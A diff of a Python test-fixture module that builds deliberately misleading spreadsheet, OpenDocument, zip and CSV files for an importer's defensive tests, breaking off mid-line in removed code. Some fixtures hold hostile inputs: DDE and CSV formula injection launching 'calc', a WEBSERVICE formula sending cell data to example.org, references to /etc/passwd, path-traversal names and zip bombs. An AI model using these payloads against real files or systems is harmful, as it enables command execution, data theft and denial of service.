@@ -1,4 +1,5 @@
 # ruff: noqa: E501 - a trick a line
+# fmt: off
 """Files that somebody made by hand to mislead a reader; each says what a person sees in it.
 
 All are a ledger of three lines, whose true rows are those of `TRUTH`, but for what is done to
@@ -7,20 +8,13 @@ it. A case may be refused in a sentence; what is taken in must be true.
 
 from __future__ import annotations
 
-import functools
 import io
-import struct
 import warnings
 import zipfile
-import zlib
 from typing import NamedTuple
 
 HEADINGS = ("cost_id", "cost_date", "category", "amount")
-TRUTH = (
-    ("C1", "2025-07-01", "bins", 5.0),
-    ("C2", "2025-08-02", "worms", 70.5),
-    ("C3", "2025-09-03", "bedding", 1200.0),
-)
+TRUTH = (("C1", "2025-07-01", "bins", 5.0), ("C2", "2025-08-02", "worms", 70.5), ("C3", "2025-09-03", "bedding", 1200.0))
 LINES = "\n".join(",".join(map(str, row)) for row in (HEADINGS, *TRUTH)) + "\n"
 DAY_ONE = {1900: 45839, 1904: 45839 - 1462}
 """Serial number of 2025-07-01 by the two calendars of ECMA-376 part 1, 18.17.4.1."""
@@ -58,11 +52,7 @@ def text_cell(place: str, text: str) -> str:
 
 def book_rows(calendar: int = 1900) -> list[str]:
     """Rows of the ledger as a spreadsheet program writes them."""
-    rows = [
-        "".join(
-            text_cell(f"{letter}1", name) for letter, name in zip("ABCD", HEADINGS, strict=True)
-        )
-    ]
+    rows = ["".join(text_cell(f"{letter}1", name) for letter, name in zip("ABCD", HEADINGS, strict=True))]
     for number, (row, days) in enumerate(zip(TRUTH, SERIALS, strict=True), 2):
         day = f'<c r="B{number}" s="1"><v>{DAY_ONE[calendar] + days}</v></c>'
         cells = text_cell(f"A{number}", row[0]) + day + text_cell(f"C{number}", row[2])
@@ -78,21 +68,12 @@ def sheet(rows: list[str], after: str = "") -> str:
 def book_parts(
     sheets: dict[str, str] | None = None, states: dict[str, str] | None = None,
     properties: str = "", more_links: str = "", more_types: str = "",
-) -> dict[str, str]:  # fmt: skip
+) -> dict[str, str]:
     """Parts of a workbook of some sheets."""
     sheets = sheets or {"costs": sheet(book_rows())}
-    listed = "".join(
-        f'<sheet name="{name}" sheetId="{n}" {(states or {}).get(name, "")} r:id="r{n}"/>'
-        for n, name in enumerate(sheets, 1)
-    )
-    links = "".join(
-        f'<Relationship Id="r{n}" Type="{LINKS}/worksheet" Target="worksheets/sheet{n}.xml"/>'
-        for n in range(1, len(sheets) + 1)
-    )
-    kinds = "".join(
-        f'<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType="{TYPES}.worksheet+xml"/>'
-        for n in range(1, len(sheets) + 1)
-    )
+    listed = "".join(f'<sheet name="{name}" sheetId="{n}" {(states or {}).get(name, "")} r:id="r{n}"/>' for n, name in enumerate(sheets, 1))
+    links = "".join(f'<Relationship Id="r{n}" Type="{LINKS}/worksheet" Target="worksheets/sheet{n}.xml"/>' for n in range(1, len(sheets) + 1))
+    kinds = "".join(f'<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType="{TYPES}.worksheet+xml"/>' for n in range(1, len(sheets) + 1))
     package = LINKS.replace("officeDocument/2006", "package/2006")
     return {
         "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
@@ -101,10 +82,8 @@ def book_parts(
         f'<Override PartName="/xl/workbook.xml" ContentType="{TYPES}.sheet.main+xml"/>'
         f'<Override PartName="/xl/styles.xml" ContentType="{TYPES}.styles+xml"/>'
         f"{kinds}{more_types}</Types>",
-        "_rels/.rels": f'<Relationships xmlns="{package}"><Relationship Id="r1" '
-        f'Type="{LINKS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
-        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{LINKS}">{properties}'
-        f"<sheets>{listed}</sheets></workbook>",
+        "_rels/.rels": f'<Relationships xmlns="{package}"><Relationship Id="r1" Type="{LINKS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
+        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{LINKS}">{properties}<sheets>{listed}</sheets></workbook>',
         "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}">{links}'
         f'<Relationship Id="rs" Type="{LINKS}/styles" Target="styles.xml"/>{more_links}'
         "</Relationships>",
@@ -122,7 +101,8 @@ def packed(parts: dict[str, str | bytes]) -> bytes:
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, warnings.catch_warnings():
         warnings.simplefilter("ignore")
         for name, part in parts.items():
-            archive.writestr(name, part)
+            # of no time of its own, so that a case is the same at any time
+            archive.writestr(zipfile.ZipInfo(name), part, zipfile.ZIP_DEFLATED)
     return out.getvalue()
 
 
@@ -147,9 +127,7 @@ def books() -> dict[str, bytes | Trick]:
     def with_sheet(text: str, **more: str) -> bytes:
         return packed({**plain, "xl/worksheets/sheet1.xml": text, **more})
 
-    phonetic = (
-        "<is><r><t>C</t></r><r><rPr><b/></rPr><t>1</t></r><rPh sb='0' eb='1'><t>see</t></rPh></is>"
-    )
+    phonetic = "<is><r><t>C</t></r><r><rPr><b/></rPr><t>1</t></r><rPh sb='0' eb='1'><t>see</t></rPh></is>"
     id_cell = f'<c r="A2" t="inlineStr">{phonetic}</c>'
     out["rich text with a phonetic run"] = with_sheet(with_row(2, _second(name=id_cell)))
     merged = '<mergeCells count="1"><mergeCell ref="A2:D4"/></mergeCells>'
@@ -162,53 +140,30 @@ def books() -> dict[str, bytes | Trick]:
         "that calls": "<f>cmd|' /C calc'!A0</f>",
         "from the network": '<f>WEBSERVICE("http://example.org/"&amp;A2)</f>',
     }.items():
-        out[f"formula {name}"] = with_sheet(
-            with_row(2, _second(f'<c r="D2">{formula}<v>5</v></c>'))
-        )
+        out[f"formula {name}"] = with_sheet(with_row(2, _second(f'<c r="D2">{formula}<v>5</v></c>')))
         cell = f'<c r="D2">{formula}</c>'
-        out[f"formula {name}, no result"] = Trick(
-            "", with_sheet(with_row(2, _second(cell))), TRUTH[1:]
-        )
-    calendar = {
-        "xl/workbook.xml": book_parts(properties='<workbookPr date1904="1"/>')["xl/workbook.xml"]
-    }
+        out[f"formula {name}, no result"] = Trick("", with_sheet(with_row(2, _second(cell))), TRUTH[1:])
+    calendar = {"xl/workbook.xml": book_parts(properties='<workbookPr date1904="1"/>')["xl/workbook.xml"]}
     out["calendar of 1904"] = with_sheet(sheet(book_rows(1904)), **calendar)
-    out["calendar of 1904, said as true"] = with_sheet(
-        sheet(book_rows(1904)),
-        **{name: text.replace('"1"', '"true"', 1) for name, text in calendar.items()},
-    )
+    out["calendar of 1904, said as true"] = with_sheet(sheet(book_rows(1904)), **{name: text.replace('"1"', '"true"', 1) for name, text in calendar.items()})
     for state in ("hidden", "veryHidden"):
         two = {"costs": first, "more costs": first.replace(">C", ">X")}
         out[f"a sheet {state}"] = packed(book_parts(two, {"more costs": f'state="{state}"'}))
-        out[f"every sheet {state}"] = Trick(
-            "", packed(book_parts(None, {"costs": f'state="{state}"'})), ()
-        )
-    out["a hidden row"] = packed(
-        {**plain, "xl/worksheets/sheet1.xml": first.replace('<row r="3"', '<row r="3" hidden="1"')}
-    )
+        out[f"every sheet {state}"] = Trick("", packed(book_parts(None, {"costs": f'state="{state}"'})), ())
+    out["a hidden row"] = packed({**plain, "xl/worksheets/sheet1.xml": first.replace('<row r="3"', '<row r="3" hidden="1"')})
     out["a link to another book"] = packed(
-        {
-            **plain,
-            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
-        }
+        {**plain, "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'}
     )
     out["a connection"] = packed(
-        {
-            **plain,
-            "xl/connections.xml": f'<connections xmlns="{MAIN}"><connection id="1" type="1"><dbPr connection="x"/></connection></connections>',
-        }
+        {**plain, "xl/connections.xml": f'<connections xmlns="{MAIN}"><connection id="1" type="1"><dbPr connection="x"/></connection></connections>'}
     )
-    out["macros"] = Trick(
-        "costs.xlsm", packed({**plain, "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 99})
-    )
-    out["macros named as if none"] = packed(
-        {**plain, "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 99}
-    )
+    out["macros"] = Trick("costs.xlsm", packed({**plain, "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 99}))
+    out["macros named as if none"] = packed({**plain, "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 99})
     for name, cell in {
         "a date as text": '<c r="B2" t="d"><v>2025-07-01</v></c>', "a truth": '<c r="B2" t="b"><v>1</v></c>',
         "a date far off": '<c r="B2" s="1"><v>99999999</v></c>', "a date before all": '<c r="B2" s="1"><v>-7</v></c>',
         "the day that never was": '<c r="B2" s="1"><v>60</v></c>', "no number": '<c r="B2" s="1"><v>NaN</v></c>',
-    }.items():  # fmt: skip
+    }.items():
         row = book_rows()[1]
         begin = row.index('<c r="B2"')
         changed = row[:begin] + cell + row[row.index("</c>", begin) + 4 :]
@@ -217,73 +172,40 @@ def books() -> dict[str, bytes | Trick]:
     for text in ("5e0", "0x5", "５", "5,", "1e999", "5" + "0" * 400, "5_0", " 5 "):
         rows = TRUTH if text in ("5e0", "５", " 5 ", "5,") else None
         cell = f'<c r="D2"><v>{text}</v></c>'
-        out[f"the number {text[:9]}"] = Trick(
-            "", with_sheet(with_row(2, _second(cell))), rows or TRUTH[1:]
-        )
-    out["a shared text that is not there"] = Trick(
-        "", with_sheet(with_row(2, _second(name='<c r="A2" t="s"><v>7</v></c>'))), TRUTH[1:]
-    )
-    out["rows out of order"] = with_sheet(
-        first.replace('<row r="2"', '<row r="9"').replace('2"', '9"', 0)
-    )
+        out[f"the number {text[:9]}"] = Trick("", with_sheet(with_row(2, _second(cell))), rows or TRUTH[1:])
+    out["a shared text that is not there"] = Trick("", with_sheet(with_row(2, _second(name='<c r="A2" t="s"><v>7</v></c>'))), TRUTH[1:])
+    out["rows out of order"] = with_sheet(first.replace('<row r="2"', '<row r="9"').replace('2"', '9"', 0))
     out["rows without a number"] = with_sheet(sheet(book_rows()).replace('<row r="3"', "<row"))
-    out["another prefix"] = with_sheet(
-        first.replace("<", "<x:").replace("<x:/", "</x:").replace("xmlns=", "xmlns:x=")
-    )
+    out["another prefix"] = with_sheet(first.replace("<", "<x:").replace("<x:/", "</x:").replace("xmlns=", "xmlns:x="))
     out["a comment in a cell"] = with_sheet(first.replace("<t>C1", "<t><!-- X -->C1"))
     out["a stretch of characters"] = with_sheet(first.replace("<t>C1</t>", "<t><![CDATA[C1]]></t>"))
     out["escapes of ECMA"] = with_sheet(first.replace("<t>C1</t>", "<t>_x0043_1</t>"))
-    out["UTF-16 parts"] = packed(
-        {
-            **plain,
-            "xl/worksheets/sheet1.xml": ('<?xml version="1.0" encoding="UTF-16"?>' + first).encode(
-                "utf-16"
-            ),
-        }
-    )
-    out["said to be Latin"] = packed(
-        {**plain, "xl/worksheets/sheet1.xml": '<?xml version="1.0" encoding="iso-8859-1"?>' + first}
-    )
-    out["a thousand sheets"] = packed(
-        book_parts({"costs": first} | {f"s{n}": sheet([]) for n in range(1000)})
-    )
+    out["UTF-16 parts"] = packed({**plain, "xl/worksheets/sheet1.xml": ('<?xml version="1.0" encoding="UTF-16"?>' + first).encode("utf-16")})
+    out["said to be Latin"] = packed({**plain, "xl/worksheets/sheet1.xml": '<?xml version="1.0" encoding="iso-8859-1"?>' + first})
+    out["a thousand sheets"] = packed(book_parts({"costs": first} | {f"s{n}": sheet([]) for n in range(1000)}))
     out["two sheets of one name"] = packed(
         {
             **book_parts({"costs": first, "c2": first}),
-            "xl/workbook.xml": book_parts({"costs": first, "c2": first})["xl/workbook.xml"].replace(
-                '"c2"', '"costs"'
-            ),
+            "xl/workbook.xml": book_parts({"costs": first, "c2": first})["xl/workbook.xml"].replace('"c2"', '"costs"'),
         }
     )
     out["two sheets of one part"] = packed(
-        {
-            **plain,
-            "xl/workbook.xml": plain["xl/workbook.xml"].replace(
-                "</sheets>", '<sheet name="again" sheetId="2" r:id="r1"/></sheets>'
-            ),
-        }
+        {**plain, "xl/workbook.xml": plain["xl/workbook.xml"].replace("</sheets>", '<sheet name="again" sheetId="2" r:id="r1"/></sheets>')}
     )
-    out["a chart sheet"] = packed(
-        book_parts(
-            more_links=f'<Relationship Id="r9" Type="{LINKS}/chartsheet" Target="chartsheets/s.xml"/>'
-        )
-    )
+    out["a chart sheet"] = packed(book_parts(more_links=f'<Relationship Id="r9" Type="{LINKS}/chartsheet" Target="chartsheets/s.xml"/>'))
     return out
 
 
 def open_sheet(rows: str, before: str = "", table: str = "costs") -> bytes:
     """Pack an open document of a table."""
-    spaces = " ".join(
-        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
-        for name in ("office", "table", "text", "style")
-    )
+    spaces = " ".join(f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "table", "text", "style"))
     content = (
         f'<office:document-content {spaces} xmlns:xlink="http://www.w3.org/1999/xlink">{before}'
         f'<office:body><office:spreadsheet><table:table table:name="{table}">{rows}</table:table>'
         "</office:spreadsheet></office:body></office:document-content>"
     )
     return packed({"mimetype": "application/vnd.oasis.opendocument.spreadsheet",
-                   "META-INF/manifest.xml": "<manifest/>", "content.xml": content})  # fmt: skip
+                   "META-INF/manifest.xml": "<manifest/>", "content.xml": content})
 
 
 def open_cell(text: str, kind: str = "string", more: str = "", tag: str = "table-cell") -> str:
@@ -314,34 +236,18 @@ def open_books() -> dict[str, bytes | Trick]:
         out[f"{repeat} empty rows under it"] = open_sheet(whole + open_row(empty, again))
         out[f"{repeat} filled rows"] = open_sheet(whole + open_row(open_cell("x"), again))
         wide = f'<table:table-cell table:number-columns-repeated="{repeat}"/>'
-        out[f"{repeat} empty columns"] = open_sheet(
-            whole.replace("</table:table-row>", f"{wide}</table:table-row>")
-        )
-    out["empty rows above it, by a count"] = open_sheet(
-        open_row(empty, 'table:number-rows-repeated="1000"') + whole
-    )
+        out[f"{repeat} empty columns"] = open_sheet(whole.replace("</table:table-row>", f"{wide}</table:table-row>"))
+    out["empty rows above it, by a count"] = open_sheet(open_row(empty, 'table:number-rows-repeated="1000"') + whole)
     lie = rows[1].replace('office:value="5.0"', 'office:value="9.0"')
-    out["a number other than its text"] = Trick(
-        "",
-        open_sheet(rows[0] + lie + "".join(rows[2:])),
-        (("C1", "2025-07-01", "bins", 9.0), *TRUTH[1:]),
-    )
+    out["a number other than its text"] = Trick("", open_sheet(rows[0] + lie + "".join(rows[2:])), (("C1", "2025-07-01", "bins", 9.0), *TRUTH[1:]))
     lie = rows[1].replace('office:date-value="2025-07-01"', 'office:date-value="2025-07-31"')
-    out["a day other than its text"] = Trick(
-        "",
-        open_sheet(rows[0] + lie + "".join(rows[2:])),
-        (("C1", "2025-07-31", "bins", 5.0), *TRUTH[1:]),
-    )
+    out["a day other than its text"] = Trick("", open_sheet(rows[0] + lie + "".join(rows[2:])), (("C1", "2025-07-31", "bins", 5.0), *TRUTH[1:]))
     for value in ("x", "", "1e999", "NaN", "5,0", "9" * 400):
         lie = rows[1].replace('office:value="5.0"', f'office:value="{value}"')
-        out[f"the number {value[:9]}"] = Trick(
-            "", open_sheet(rows[0] + lie + "".join(rows[2:])), None
-        )
+        out[f"the number {value[:9]}"] = Trick("", open_sheet(rows[0] + lie + "".join(rows[2:])), None)
     for value in ("2025-02-30", "2025-07-01T23:59:59", "99999-01-01", "-0001-01-01", "x"):
         lie = rows[1].replace('office:date-value="2025-07-01"', f'office:date-value="{value}"')
-        out[f"the day {value}"] = Trick(
-            "", open_sheet(rows[0] + lie + "".join(rows[2:])), TRUTH if "T" in value else None
-        )
+        out[f"the day {value}"] = Trick("", open_sheet(rows[0] + lie + "".join(rows[2:])), TRUTH if "T" in value else None)
     covered = open_row(
         open_cell("C9")
         + open_cell("2025-07-09", tag="covered-table-cell")
@@ -349,482 +255,24 @@ def open_books() -> dict[str, bytes | Trick]:
         + open_cell("7", tag="covered-table-cell")
     )
     out["covered cells"] = Trick("", open_sheet(whole + covered), TRUTH)
-    for name, more in {
-        "hidden": 'table:visibility="collapse"',
-        "filtered": 'table:visibility="filter"',
-    }.items():
-        out[f"a row {name}"] = open_sheet(
-            rows[0]
-            + rows[1].replace("<table:table-row ", f"<table:table-row {more} ")
-            + "".join(rows[2:])
-        )
-    out["rows in groups"] = open_sheet(
-        rows[0] + "<table:table-row-group>" + "".join(rows[1:]) + "</table:table-row-group>"
-    )
-    out["heading rows"] = open_sheet(
-        f"<table:table-header-rows>{rows[0]}</table:table-header-rows>" + "".join(rows[1:])
-    )
+    for name, more in {"hidden": 'table:visibility="collapse"', "filtered": 'table:visibility="filter"'}.items():
+        out[f"a row {name}"] = open_sheet(rows[0] + rows[1].replace("<table:table-row ", f"<table:table-row {more} ") + "".join(rows[2:]))
+    out["rows in groups"] = open_sheet(rows[0] + "<table:table-row-group>" + "".join(rows[1:]) + "</table:table-row-group>")
+    out["heading rows"] = open_sheet(f"<table:table-header-rows>{rows[0]}</table:table-header-rows>" + "".join(rows[1:]))
     note = "<office:annotation><text:p>C1 is wrong</text:p></office:annotation>"
     out["a note in a cell"] = open_sheet(whole.replace("<text:p>C1", f"{note}<text:p>C1"))
-    out["two paragraphs"] = Trick(
-        "",
-        open_sheet(
-            whole.replace("<text:p>bins</text:p>", "<text:p>bi</text:p><text:p>ns</text:p>")
-        ),
-        TRUTH[1:],
-    )
-    out["spans"] = open_sheet(
-        whole.replace(
-            "<text:p>C1", "<text:p><text:span>C</text:span><text:span>1</text:span>"
-        ).replace("</text:span>C1", "</text:span>")
-    )
-    out["a table in a cell"] = Trick(
-        "",
-        open_sheet(
-            whole.replace(
-                "<text:p>bins", f'<table:table table:name="in">{rows[2]}</table:table><text:p>bins'
-            )
-        ),
-        None,
-    )
-    out["a source elsewhere"] = open_sheet(
-        '<table:table-source xlink:href="file:///etc/passwd"/>' + whole
-    )
+    out["two paragraphs"] = Trick("", open_sheet(whole.replace("<text:p>bins</text:p>", "<text:p>bi</text:p><text:p>ns</text:p>")), TRUTH[1:])
+    out["spans"] = open_sheet(whole.replace("<text:p>C1", "<text:p><text:span>C</text:span><text:span>1</text:span>").replace("</text:span>C1", "</text:span>"))
+    out["a table in a cell"] = Trick("", open_sheet(whole.replace("<text:p>bins", f'<table:table table:name="in">{rows[2]}</table:table><text:p>bins')), None)
+    out["a source elsewhere"] = open_sheet('<table:table-source xlink:href="file:///etc/passwd"/>' + whole)
     tracked = f"<table:tracked-changes><table:deletion>{rows[2].replace('C2', 'X2')}</table:deletion></table:tracked-changes>"
     out["changes kept"] = open_sheet(tracked + whole)
     out["a hidden table"] = Trick(
         "",
         open_sheet(
-            whole.replace(">C", ">X")
-            + '</table:table><table:table table:name="more costs" table:style-name="h">'
-            + whole,
+            whole.replace(">C", ">X") + '</table:table><table:table table:name="more costs" table:style-name="h">' + whole,
             '<office:automatic-styles><style:style style:name="h" style:family="table"><style:table-properties table:display="false"/></style:style></office:automatic-styles>',
         ),
         None,
     )
     return out
-
-
-# -- archives ----------------------------------------------------------------------------
-
-
-def archives(plain: bytes) -> dict[str, bytes]:  # noqa: C901 - one trick after another
-    """Make archives whose entries are not what they seem."""
-    with zipfile.ZipFile(io.BytesIO(plain)) as archive:
-        parts = {name: archive.read(name) for name in archive.namelist()}
-    name = max(
-        parts, key=lambda name: len(parts[name]) * name.startswith(("xl/w", "con", "word/d"))
-    )
-    out = {}
-    for other in (
-        f"/{name}",
-        f"../{name}",
-        f"C:\\{name}",
-        name.replace("/", "\\"),
-        name.upper(),
-        f"./{name}",
-        name + "\0.xml",
-        name + "/",
-    ):
-        out[f"named {other!r}"] = packed(
-            {(other if one == name else one): part for one, part in parts.items()}
-        )
-        if other != name:
-            out[f"{other!r} as well"] = packed({**parts, other: parts[name].replace(b"C1", b"X1")})
-    twice = io.BytesIO(plain)
-    with zipfile.ZipFile(twice, "a") as archive:
-        archive.fp.seek(archive.start_dir)
-        archive.NameToInfo.pop(name)
-        archive.writestr(name, parts[name].replace(b"C1", b"X1"))
-    out["a part twice"] = twice.getvalue()
-    linked = io.BytesIO()
-    with zipfile.ZipFile(linked, "w") as archive:
-        for one, part in parts.items():
-            entry = zipfile.ZipInfo(one)
-            entry.external_attr = (0o120777 if one == name else 0o644) << 16
-            archive.writestr(entry, b"/etc/passwd" if one == name else part)
-    out["a link for a part"] = linked.getvalue()
-
-    class Unseekable(io.RawIOBase):
-        def __init__(self):
-            self.held = io.BytesIO()
-
-        def writable(self):
-            return True
-
-        def write(self, some):
-            return self.held.write(some)
-
-    stream = Unseekable()
-    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
-        for one, part in parts.items():
-            archive.writestr(one, part)
-    out["data descriptors"] = stream.held.getvalue()
-    at = plain.rfind(b"PK\x01\x02")
-    end = plain.rfind(b"PK\x05\x06")
-
-    def put(place: int, form: str, value: int) -> bytes:
-        some = struct.pack(form, value)
-        return plain[:place] + some + plain[place + len(some) :]
-
-    entry = plain.find(b"PK\x01\x02")
-    while plain[entry + 46 : entry + 46 + len(name)] != name.encode():
-        entry = plain.find(b"PK\x01\x02", entry + 4)
-    for what, place, form, value in (
-        ("no size", entry + 24, "<L", 0), ("a size of 4 GiB", entry + 24, "<L", 2**32 - 2),
-        ("a size of zip64", entry + 24, "<L", 2**32 - 1), ("packed to nothing", entry + 20, "<L", 0),
-        ("packed to more", entry + 20, "<L", 2**31), ("another's bytes", entry + 42, "<L", 0),
-        ("bytes past the end", entry + 42, "<L", 2**31), ("another sum", entry + 16, "<L", 7),
-        ("another method", entry + 10, "<H", 12), ("a rare method", entry + 10, "<H", 99),
-        ("locked", entry + 8, "<H", 1), ("utf-8 said", entry + 8, "<H", 0x800),
-        ("no entries", end + 10, "<H", 0), ("too many entries", end + 10, "<H", 65535),
-        ("a directory elsewhere", end + 16, "<L", 5), ("several disks", end + 4, "<H", 3),
-        ("a name of 64 KiB", entry + 28, "<H", 65535), ("an extra of 64 KiB", entry + 30, "<H", 65535),
-        ("the year 1980", entry + 12, "<L", 0), ("one entry fewer", end + 10, "<H", len(parts) - 1),
-    ):  # fmt: skip
-        out[what] = put(place, form, value)
-    assert at > 0
-    out["bytes before it"] = b"MZ" * 500 + plain
-    out["bytes after it"] = plain + b"\0" * 500
-    out["a comment that ends it again"] = (
-        plain[:-2] + struct.pack("<H", 22) + b"PK\x05\x06" + b"\0" * 18
-    )
-    out["two archives"] = plain + plain.replace(b"C1", b"X1")
-    out["two archives, the first damaged"] = plain[:100] + plain
-    out["a bomb of nothing"] = packed({**parts, "xl/media/image1.xml": b" " * 60_000_000})
-    overlap = zlib.compress(b"a" * 9_000_000)[2:-4]
-    local = (
-        struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(overlap), 9_000_000, 1, 0)
-        + b"q"
-        + overlap
-    )
-    heads = b"".join(
-        struct.pack(
-            "<4s6H3L5H2L",
-            b"PK\x01\x02",
-            20,
-            20,
-            0,
-            8,
-            0,
-            0,
-            0,
-            len(overlap),
-            9_000_000,
-            5,
-            0,
-            0,
-            0,
-            0,
-            0,
-            0,
-        )
-        + b"%05d" % n
-        for n in range(4000)
-    )
-    out["entries of the same bytes"] = (
-        local
-        + heads
-        + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 4000, 4000, len(heads), len(local), 0)
-    )
-    return out
-
-
-# -- text --------------------------------------------------------------------------------
-
-
-def texts() -> dict[str, bytes | Trick]:  # noqa: C901 - one trick after another
-    """Text files."""
-    out: dict[str, bytes | Trick] = {"as it is": LINES.encode()}
-    for form in (
-        "utf-8-sig",
-        "utf-16",
-        "utf-16-le",
-        "utf-16-be",
-        "utf-32",
-        "utf-7",
-        "cp1252",
-        "cp037",
-    ):
-        out[f"in {form}"] = LINES.encode(form)
-    out["two marks of order"] = b"\xef\xbb\xbf\xef\xbb\xbf" + LINES.encode()
-    out["a mark in the middle"] = LINES.replace("C2", "\ufeffC2").encode()
-    out["halves of a character"] = LINES.encode("utf-16")[:-1]
-    for name, sign in {"nothing": "\0", "escape": "\x1b", "right to left": "\u202e", "isolate": "\u2066",
-        "no width": "\u200b", "soft hyphen": "\xad", "no break": "\xa0", "line separator": "\u2028", "next line": "\x85",
-        "form feed": "\x0c", "vertical tab": "\x0b", "separator": "\x1e", "end of file": "\x1a", "no character": "\ufffe", "tag": "\U000e0041"}.items():  # fmt: skip
-        for where, text in {"id": LINES.replace("C1", f"C{sign}1"), "word": LINES.replace("bins", f"bi{sign}ns"),
-            "amount": LINES.replace("70.5", f"7{sign}0.5"), "heading": LINES.replace("amount", f"amo{sign}unt"), "line": LINES.replace("\nC2", f"\n{sign}\nC2")}.items():  # fmt: skip
-            out[f"{name} in the {where}"] = Trick("", text.encode(), None)
-    digits = {"full width": 0xFF10, "Arabic": 0x660, "Devanagari": 0x966, "bold": 0x1D7CE}
-    for name, first in digits.items():
-        turned = LINES.translate({ord("0") + n: chr(first + n) for n in range(10)})
-        lines = [
-            mine if n in (0,) else other
-            for n, (mine, other) in enumerate(
-                zip(LINES.splitlines(), turned.splitlines(), strict=True)
-            )
-        ]
-        out[f"digits {name}"] = Trick("", "\n".join(lines).encode(), None)
-        out[f"amounts {name}"] = Trick(
-            "",
-            LINES.replace(
-                "70.5", "70.5".translate({ord("0") + n: chr(first + n) for n in range(10)})
-            ).encode(),
-            TRUTH,
-        )
-    out["mixed ends"] = LINES.replace("\n", "\r\n", 1).replace("\nC2", "\rC2").encode()
-    out["ends of the old kind"] = LINES.replace("\n", "\r").encode()
-    out["doubled ends"] = LINES.replace("\n", "\r\r\n").encode()
-    out["ends the other way"] = LINES.replace("\n", "\n\r").encode()
-    out["quotes never closed"] = Trick("", LINES.replace("C2", '"C2').encode(), None)
-    out["quotes in the middle"] = Trick("", LINES.replace("worms", 'wo"rms').encode(), None)
-    out["quotes after spaces"] = Trick("", LINES.replace("worms", ' "worms"').encode(), None)
-    out["all quoted"] = (
-        "\n".join(",".join(f'"{cell}"' for cell in line.split(",")) for line in LINES.splitlines())
-    ).encode()
-    out["a line end in quotes"] = Trick("", LINES.replace("worms", '"wor\nms"').encode(), None)
-    out["a million columns"] = ("," * 1_000_000 + "\n" + LINES).encode()
-    out["a million columns beside it"] = LINES.replace(
-        "amount", "amount" + "," * 1_000_000
-    ).encode()
-    out["a million empty lines"] = (LINES + "\n" * 1_000_000).encode()
-    out["a million empty lines above it"] = ("\n" * 1_000_000 + LINES).encode()
-    out["a cell of 20 MB"] = LINES.replace("bins", "x" * 20_000_000).encode()
-    out["a heading of 5 MB"] = LINES.replace("category", "category" + "x" * 5_000_000).encode()
-    out["more cells in a line"] = Trick("", LINES.replace("70.5", "70.5,8,9").encode(), None)
-    out["fewer cells in a line"] = Trick("", LINES.replace("worms,70.5", "worms").encode(), None)
-    out["a heading twice"] = (
-        LINES.replace("amount", "amount,amount").replace("5.0", "5.0,6").encode()
-    )
-    for separator in (";", "\t", "|", ":", "\x1f", " "):
-        out[f"parted by {separator!r}"] = LINES.replace(",", separator).encode()
-    out["two separators"] = Trick("", LINES.replace("C2,", "C2;").encode(), None)
-    out["sep="] = f"sep=;\n{LINES}".encode()
-    out["sep of nothing"] = f"sep=\n{LINES}".encode()
-    for amount in (
-        "1e3",
-        "1_000",
-        "0x1F",
-        "1,000",
-        "١",
-        "-5",
-        "+5",
-        "5-",
-        "(5)",
-        "5%",
-        "½",
-        "Ⅴ",
-        "五",
-        "5e-400",
-        "9" * 400,
-        "1e308",
-        "inf",
-        "-nan",
-        "5 €",
-        "€5",
-        "\u22125",
-        "5.0.0",
-        "5..0",
-        ".5.",
-        "1'000",
-    ):
-        out[f"the amount {amount[:9]}"] = Trick(
-            "", LINES.replace("70.5", f'"{amount}"').encode(), None
-        )
-    for day in (
-        "2025-02-29",
-        "2025-13-01",
-        "0000-00-00",
-        "9999-12-31",
-        "10000-01-01",
-        "2025-8-2",
-        "2/8/25",
-        "02.08.2025",
-        "45871",
-        "-1",
-        "1e9",
-        "2025-08-02T00:00:00+14:00",
-        "2025-W31-6",
-        "2025-214",
-        "٢٠٢٥-٠٨-٠٢",
-        "2025/08/02",
-        "Aug 2 2025",
-        "yesterday",
-    ):
-        out[f"the day {day}"] = Trick("", LINES.replace("2025-08-02", day).encode(), None)
-    for start in ("=", "+", "-", "@", "\t=", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x")'):
-        out[f"an id of {start!r}"] = Trick(
-            "", LINES.replace("C2", '"' + start.replace('"', '""') + 'C2"').encode(), None
-        )
-    out["nothing"] = Trick("", b"", ())
-    out["one heading"] = Trick("", b"cost_id", ())
-    out["an archive as text"] = Trick("", packed(book_parts()), ())
-    out["a page"] = Trick("", b"<html><table><tr><td>cost_id</td></tr></table></html>", ())
-    return out
-
-
-# -- settings and templates --------------------------------------------------------------
-
-
-def settings(text: str) -> dict[str, bytes]:
-    """Program files."""
-    lines = {
-        "a lone half": 'x = "\\ud800"', "a character too far": 'x = "\\U00110000"', "day 30 February": "x = 2025-02-30",
-        "the year nought": "x = 0000-01-01", "the year 10000": "x = 10000-01-01", "hour 25": "x = 2025-01-01T25:00:00",
-        "second 60": "x = 2025-01-01T23:59:60Z", "offset +99:99": "x = 2025-01-01T00:00:00+99:99", "a long number": f"x = {'9' * 5000}",
-        "a long hexadecimal": f"x = 0x{'f' * 100_000}", "no number": "x = nan", "no end": "x = -inf", "a long fraction": f"x = 1e{'9' * 5000}",
